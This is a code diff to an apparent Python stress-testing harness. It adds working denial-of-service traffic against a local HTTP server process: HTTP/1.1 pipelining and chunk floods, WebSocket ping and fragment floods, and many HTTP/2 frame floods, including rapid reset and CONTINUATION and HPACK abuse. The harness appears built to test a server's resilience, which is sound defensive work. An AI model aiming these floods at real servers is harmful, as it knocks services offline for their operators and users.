@@ -50,13 +50,13 @@ class Suffered(msgspec.Struct, frozen=True):
     grown: int
 
 
-def attack(what: Attack, port: int, shard: int, seconds: float) -> Suffered:
+def attack(what: Attack, port: int, shard: int, seconds: float, nice: int) -> Suffered:
     """shard: a process. Raises SystemExit if this process may not open so many connections."""
     limit = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
     if limit != resource.RLIM_INFINITY and limit < what.connections + 100:
         raise SystemExit(f"{what.connections:,} connections need ulimit -Hn {what.connections + 100}; it is {limit}")
     resource.setrlimit(resource.RLIMIT_NOFILE, (limit, limit))
-    os.nice(19)
+    os.nice(nice)
     return uvloop.run(_attack(what, port, psutil.Process(shard), seconds))
 
 
@@ -96,7 +96,9 @@ async def _attack(what: Attack, port: int, shard: psutil.Process, seconds: float
 
 
 def _end(answer: bytes, secure: bool) -> str:
-    if secure or not answer:
+    if secure and answer:
+        return answer.decode()
+    if not answer:
         return "closed"
     statuses = re.findall(rb"HTTP/1\.1 (\d+)", answer)
     return statuses[-1].decode() if statuses else "other"
@@ -125,6 +127,31 @@ def _sending(*requests: bytes) -> Act:
         return await reader.read()
 
     return act
+
+
+def _flooding(begin: bytes, piece: bytes, times: int) -> Act:
+    """The same, so many times or until the server has ended it."""
+
+    async def act(reader: Reader, writer: Writer) -> bytes:
+        writer.write(begin)
+        answer = asyncio.ensure_future(reader.read())
+        await _pour(writer, piece, times, answer)
+        return await answer
+
+    return act
+
+
+async def _pour(writer: Writer, piece: bytes, times: int, until: asyncio.Future[bytes]) -> None:
+    try:
+        for _ in range(times):
+            writer.write(piece)
+            await asyncio.wait([until], timeout=0)
+            if until.done():
+                break
+            await writer.drain()
+    except BaseException:
+        until.cancel()
+        raise
 
 
 async def _never_reading(reader: Reader, writer: Writer) -> bytes:
@@ -172,18 +199,9 @@ def _websocket(extensions: str, frames: Callable[[], bytes], times: int) -> Act:
         writer.write(_head("GET", SOCKET, *_UPGRADE, *fields))
         answer = await reader.readuntil(b"\r\n\r\n")
         ended = asyncio.ensure_future(reader.read())
-        try:
-            data = frames()
-            for _ in range(times):
-                writer.write(data)
-                await asyncio.wait([ended], timeout=0)
-                if ended.done():
-                    break
-                await writer.drain()
-            await ended
-            return answer
-        finally:
-            ended.cancel()
+        await _pour(writer, frames(), times, ended)
+        await ended
+        return answer
 
     return act
 
@@ -201,6 +219,19 @@ def _fragments() -> bytes:
     return _frame(2, b"a", fin=False) + _frame(0, b"", fin=False) * 10_000
 
 
+def _letters() -> bytes:
+    """A message in frames of a byte."""
+    return _frame(2, b"a", fin=False) + _frame(0, b"a", fin=False) * 10_000 + _frame(0, b"a")
+
+
+def _pings() -> bytes:
+    return _frame(9, bytes(125)) * 1_000
+
+
+def _nothing() -> bytes:
+    return b""
+
+
 @functools.cache
 def _inflating() -> bytes:
     packer = zlib.compressobj(9, zlib.DEFLATED, -15)
@@ -211,19 +242,50 @@ def _inflating() -> bytes:
 # HTTP/2: `frame(type, flags, stream, payload)`, and a head of indexed fields (RFC 7541, appendix A).
 
 _PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _CONTINUATION = 0, 1, 3, 4, 9
+_DATA, _HEADERS, _PRIORITY, _RST_STREAM, _SETTINGS, _PING = 0, 1, 2, 3, 4, 6
+_GOAWAY, _WINDOW_UPDATE, _CONTINUATION = 7, 8, 9
 _END_STREAM, _END_HEADERS = 1, 4
 _HEAD = b"\x82\x87\x84\x41\x01a"  # GET, https, /, authority a
+_STREAMS = range(1, 200, 2)
+
+
+def _asked(method: str, path: str) -> bytes:
+    """Its head, in literals."""
+    fields = [(b":method", method.encode()), (b":scheme", b"https"), (b":path", path.encode()), (b":authority", b"a")]
+    return b"".join(b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value for name, value in fields)
 
 
 def _h2(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
     return struct.pack("!I", len(payload))[1:] + struct.pack("!BBI", kind, flags, stream) + payload
 
 
-def _over_h2(frames: bytes) -> Act:
+async def _goaway(reader: Reader) -> bytes:
+    """Which error the server ends the connection with."""
+    with contextlib.suppress(asyncio.IncompleteReadError, ConnectionError, ssl.SSLError):
+        while True:
+            head = await reader.readexactly(9)
+            payload = await reader.readexactly(int.from_bytes(head[:3]))
+            if head[3] == _GOAWAY and (code := int.from_bytes(payload[4:8])):
+                return _CODES.get(code, f"error {code}").encode()
+    return b""
+
+
+_CODES = {1: "protocol error", 6: "frame size", 9: "compression", 11: "calm down"}
+
+
+def _over_h2(begin: bytes, piece: bytes = b"", times: int = 0, pause_s: float = 0) -> Act:
+    """The beginning, and then the piece so many times, with pauses; until the server says GOAWAY."""
+
     async def act(reader: Reader, writer: Writer) -> bytes:
-        writer.write(_PREFACE + _h2(_SETTINGS, 0, 0) + frames)
-        return await reader.read()
+        ended = asyncio.ensure_future(_goaway(reader))
+        writer.write(_PREFACE + _h2(_SETTINGS, 0, 0) + begin)
+        if not pause_s:
+            await _pour(writer, piece, times, ended)
+        else:
+            while not ended.done():
+                await asyncio.wait([ended], timeout=pause_s)
+                writer.write(piece)
+        return await ended
 
     return act
 
@@ -239,9 +301,60 @@ def _continuations() -> bytes:
     return _h2(_HEADERS, _END_STREAM, 1, _HEAD) + _h2(_CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 3_000) * 1_000
 
 
+def _block(block: bytes) -> bytes:
+    """A head of less than 64 KiB, in as many frames as it takes."""
+    pieces = [block[at : at + 16_384] for at in range(0, len(block), 16_384)]
+    frames = [_h2(_CONTINUATION, 0, 1, piece) for piece in pieces]
+    frames[0] = _h2(_HEADERS, _END_STREAM, 1, pieces[0])
+    return b"".join(frames) + _h2(_CONTINUATION, _END_HEADERS, 1)
+
+
+def _all_streams(method: str, path: str, flags: int, payload: bytes = b"") -> bytes:
+    """A request on each, with a frame of its body."""
+    head = _asked(method, path)
+    return b"".join(
+        _h2(_HEADERS, flags | _END_HEADERS, number, head) + (_h2(_DATA, 0, number, payload) if payload else b"")
+        for number in _STREAMS
+    )
+
+
+def _trailers() -> bytes:
+    """Of a request that has answers to wait for, again and again."""
+    head, fields = _asked("POST", READ), b"\x00\x01a\x01b" * 90
+    return b"".join(
+        _h2(_HEADERS, _END_HEADERS, number, head) + _h2(_HEADERS, _END_HEADERS | _END_STREAM, number, fields)
+        for number in range(1, 4_000, 2)
+    )
+
+
+def _attacks_over_h2() -> dict[str, Act]:
+    post, one = _all_streams("POST", READ, 0), struct.pack("!I", 1)
+    blocked = _all_streams("GET", LARGE, _END_STREAM)
+    bodies = b"".join(_h2(_DATA, 0, number, b"a") for number in _STREAMS)
+    first = _h2(_HEADERS, _END_HEADERS, 1, _asked("POST", READ))
+    table = b"".join(_h2(_SETTINGS, 0, 0, struct.pack("!HI", 1, size)) for size in (0, 4_096))
+    return {
+        "rapid-reset": _over_h2(_rapid_reset()),
+        "continuations": _over_h2(_continuations()),
+        "h2-settings": _over_h2(b"", _h2(_SETTINGS, 0, 0, struct.pack("!HI", 4, 65_535)) * 1_000, 100),
+        "h2-pings": _over_h2(b"", _h2(_PING, 0, 0, bytes(8)) * 1_000, 100),
+        "h2-priorities": _over_h2(b"", _h2(_PRIORITY, 0, 3, struct.pack("!IB", 1, 0)) * 1_000, 100),
+        "h2-windows": _over_h2(blocked, _h2(_WINDOW_UPDATE, 0, 0, one) * 1_000, 100),
+        "h2-empty-data": _over_h2(first, _h2(_DATA, 0, 1) * 1_000, 100),
+        "h2-tables": _over_h2(table * 100 + _block(_HEAD + b"\x40\x01a\x01b" * 900)),
+        "h2-table-sizes": _over_h2(_block(b"\x20" * 60_000 + _HEAD)),
+        "h2-small-fields": _over_h2(_block(_HEAD + b"\x00\x01a\x01b" * 12_000)),
+        "h2-huffman": _over_h2(_block(_HEAD + b"\x00\x01a\xff\xe1\xd3\x03" + b"\x00" * 60_000)),
+        "h2-small-bodies": _over_h2(post, bodies, 600),
+        "h2-slow-bodies": _over_h2(post, bodies, pause_s=_TRICKLE_S),
+        "h2-trailers": _over_h2(_trailers()),
+    }
+
+
 def attacks() -> dict[str, Attack]:
     """By name. `idle` has 10,000 connections, header lines have 64 KiB, heads a thousand fields."""
     many = _head("GET", "/light", *(f"X-{number}: a" for number in range(1_000)))
+    chunked = _head("POST", READ, "Transfer-Encoding: chunked")
     return {
         "slow-heads": Attack(1_000, _trickling(b"GET /light HTTP/1.1\r\nHost: a\r\nX: ", b"a")),
         "slow-bodies": Attack(1_000, _trickling(_head("POST", READ, "Content-Length: 1000"), b"a")),
@@ -250,9 +363,15 @@ def attacks() -> dict[str, Attack]:
         "long-header-lines": Attack(16, _sending(_head("GET", "/light", f"X: {'a' * _PIECE}"))),
         "many-headers": Attack(16, _sending(many)),
         "smuggling": Attack(16, _sending(*_SMUGGLED)),
+        "pipelining": Attack(16, _sending(_head("GET", READ) * 9_999 + _head("GET", READ, "Connection: close"))),
+        "small-chunks": Attack(16, _flooding(chunked, b"1\r\na\r\n" * 10_000, 100)),
+        "chunk-extensions": Attack(16, _flooding(chunked, b"1;" + b"a" * 16_384 + b"\r\na\r\n", 1_000)),
+        "empty-lines": Attack(16, _flooding(b"", b"\r\n" * 50_000, 1_000)),
         "websocket-frames": Attack(16, _websocket("", _huge_frame, 1_000)),
         "websocket-fragments": Attack(16, _websocket("", _fragments, 100)),
+        "websocket-letters": Attack(16, _websocket("", _letters, 100)),
+        "websocket-pings": Attack(16, _websocket("", _pings, 100)),
+        "websocket-silence": Attack(1_000, _websocket("", _nothing, 1)),
         "websocket-bombs": Attack(16, _websocket("permessage-deflate", _inflating, 1)),
-        "rapid-reset": Attack(16, _over_h2(_rapid_reset()), secure=True),
-        "continuations": Attack(16, _over_h2(_continuations()), secure=True),
+        **{name: Attack(16, act, secure=True) for name, act in _attacks_over_h2().items()},
     }
